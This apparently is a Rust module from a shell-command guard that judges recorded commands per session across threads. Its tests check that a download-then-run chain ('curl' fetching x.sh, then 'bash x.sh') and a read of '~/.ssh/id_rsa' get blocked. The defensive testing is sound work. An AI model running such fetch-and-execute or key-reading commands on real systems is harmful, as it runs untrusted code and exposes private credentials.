//! Records → verdicts, on all cores. Records of one session are judged in their order, by one thread.

use crate::bounded::BoundedMap;
use crate::record::CommandRecord;
use aegish_guard::{Action, FailMode, Role, Rule, Session, Surroundings, catch_panic};
use aegish_verdict::{CheckInput, Checker, MachineView};
use std::hash::{DefaultHasher, Hash, Hasher};
use std::io;
use std::thread;

/// Sessions whose facts are held for each thread, in each half of the map.
const SESSIONS: usize = 10_000;
/// Room for the deepest nesting that the parser accepts.
const STACK: usize = 8 << 20;
/// The home directory of users whose home is not known. Paths in it are judged as those in a home.
const HOME: &str = "/home/user";

/// The verdict on a record.
#[derive(Debug, Clone)]
pub(crate) struct RecordVerdict {
    pub(crate) action: Action,
    pub(crate) rule: &'static Rule,
    pub(crate) reason: String,
    pub(crate) confidence: f32,
    pub(crate) open: bool,
}

/// Judges batches of records.
pub(crate) struct RecordJudge {
    checker: Checker,
    /// The sessions of each thread.
    shards: Vec<BoundedMap<String, Session>>,
    sessions: u64,
}

impl RecordJudge {
    pub(crate) fn new(role: Role) -> Self {
        let threads = thread::available_parallelism().map_or(1, usize::from);
        let surroundings = Surroundings { home: HOME.to_owned(), ..Surroundings::default() };
        Self {
            checker: Checker {
                role,
                fail_mode: FailMode::Open,
                user_rules: Vec::new(),
                surroundings,
                machine: MachineView::Other,
            },
            shards: (0..threads).map(|_| BoundedMap::new(SESSIONS)).collect(),
            sessions: 0,
        }
    }

    /// The verdicts on some records, in their order.
    ///
    /// # Errors
    ///
    /// If a thread does not start or fails.
    pub(crate) fn judge(&mut self, records: &[CommandRecord]) -> io::Result<Vec<RecordVerdict>> {
        let count = self.shards.len().max(1);
        let mut parts: Vec<Vec<(usize, &CommandRecord)>> = vec![Vec::new(); count];
        for (index, record) in records.iter().enumerate() {
            if let Some(part) = parts.get_mut(shard(&record.session, count)) {
                part.push((index, record));
            }
        }
        let checker = &self.checker;
        let mut verdicts: Vec<(usize, RecordVerdict)> = Vec::with_capacity(records.len());
        thread::scope(|scope| {
            let mut running = Vec::new();
            for (part, sessions) in parts.into_iter().zip(&mut self.shards) {
                if part.is_empty() {
                    continue;
                }
                let work = move || judge_part(checker, sessions, &part);
                running.push(thread::Builder::new().stack_size(STACK).spawn_scoped(scope, work)?);
            }
            for handle in running {
                let done = handle.join().map_err(|_| io::Error::other("a thread failed"))?;
                let (part, begun) = done?;
                verdicts.extend(part);
                self.sessions += begun;
            }
            io::Result::Ok(())
        })?;
        verdicts.sort_by_key(|(index, _)| *index);
        Ok(verdicts.into_iter().map(|(_, verdict)| verdict).collect())
    }

    /// Number of sessions that began.
    pub(crate) fn sessions(&self) -> u64 {
        self.sessions
    }

    /// Number of sessions whose facts were dropped.
    pub(crate) fn forgotten(&self) -> u64 {
        self.shards.iter().map(BoundedMap::forgotten).sum()
    }
}

fn shard(session: &str, count: usize) -> usize {
    let mut hasher = DefaultHasher::new();
    session.hash(&mut hasher);
    usize::try_from(hasher.finish() % count as u64).unwrap_or_default()
}

/// Verdicts with their indices.
type Part = Vec<(usize, RecordVerdict)>;

/// Judges the records of one thread; also counts the sessions that began.
fn judge_part(
    checker: &Checker,
    sessions: &mut BoundedMap<String, Session>,
    records: &[(usize, &CommandRecord)],
) -> io::Result<(Part, u64)> {
    let mut begun = 0;
    let mut verdicts = Vec::with_capacity(records.len());
    for (index, record) in records {
        if sessions.get(&record.session).is_none() {
            sessions.insert(record.session.clone(), Session::new());
            begun += 1;
        }
        let mut alone = Session::new();
        let session = sessions.get(&record.session).unwrap_or(&mut alone);
        let input =
            CheckInput { cwd: record.cwd.as_deref(), ..CheckInput::command(&record.command) };
        let decision =
            catch_panic(|| checker.check_in(session, &input)).map_err(io::Error::other)?;
        let verdict = RecordVerdict {
            action: decision.action(),
            rule: decision.rule(),
            reason: decision.reason().to_owned(),
            confidence: decision.confidence(),
            open: decision.is_open(),
        };
        verdicts.push((*index, verdict));
    }
    Ok((verdicts, begun))
}

#[cfg(test)]
mod tests {
    use super::RecordJudge;
    use crate::record::CommandRecord;
    use aegish_guard::{Action, Role};

    fn record(session: &str, command: &str) -> CommandRecord {
        let (session, command) = (session.to_owned(), command.to_owned());
        CommandRecord { session, command, cwd: Some("/srv".to_owned()), ..CommandRecord::default() }
    }

    fn actions(records: &[CommandRecord]) -> Vec<Action> {
        let mut judge = RecordJudge::new(Role::Default);
        let mut actions = Vec::new();
        // Facts carry over between batches.
        for batch in records.chunks(2) {
            let verdicts = judge.judge(batch).expect("threads start");
            actions.extend(verdicts.iter().map(|verdict| verdict.action));
        }
        actions
    }

    #[test]
    fn facts_carry_over_within_a_session_and_not_to_another() {
        let records = [
            record("a", "curl -sO https://example.org/x.sh"),
            record("b", "ls"),
            record("b", "bash x.sh"),
            record("a", "bash x.sh"),
        ];
        let actions = actions(&records);
        assert_eq!(actions[3], Action::Block);
        assert!(actions[2] < Action::Block);
    }

    #[test]
    fn a_home_that_is_not_known_is_a_home() {
        assert_eq!(actions(&[record("a", "cat ~/.ssh/id_rsa")]), [Action::Block]);
    }
}
